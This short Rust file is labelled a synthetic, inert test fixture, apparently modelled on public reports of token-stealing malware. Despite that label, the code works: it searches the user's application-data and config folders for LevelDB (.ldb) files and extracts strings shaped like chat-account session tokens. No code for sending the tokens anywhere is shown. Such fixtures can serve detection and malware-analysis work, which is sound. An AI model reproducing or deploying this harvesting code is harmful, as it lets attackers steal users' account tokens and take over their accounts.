// Synthetic, inert fixture written from public reports; see README
use std::{fs, path::Path};

pub(crate) fn tokens() -> Vec<String> {
    let mut found = Vec::new();
    for base in ["APPDATA", "LOCALAPPDATA", "XDG_CONFIG_HOME"].iter().filter_map(std::env::var_os) {
        walk(Path::new(&base), 5, &mut found);
    }
    found
}

fn walk(dir: &Path, depth: u8, found: &mut Vec<String>) {
    for entry in fs::read_dir(dir).into_iter().flatten().flatten() {
        let path = entry.path();
        if path.is_dir() && depth > 0 {
            walk(&path, depth - 1, found);
        } else if path.extension().map_or(false, |e| e == "ldb") {
            let text = String::from_utf8_lossy(&fs::read(path).unwrap_or_default()).into_owned();
            found.extend(text.split(|c: char| !c.is_ascii_alphanumeric() && c != '.' && c != '-' && c != '_').filter(|w| {
                let p: Vec<usize> = w.split('.').map(str::len).collect();
                matches!(p[..], [24..=26, 6, 27..=38])
            }).map(str::to_owned));
        }
    }
}
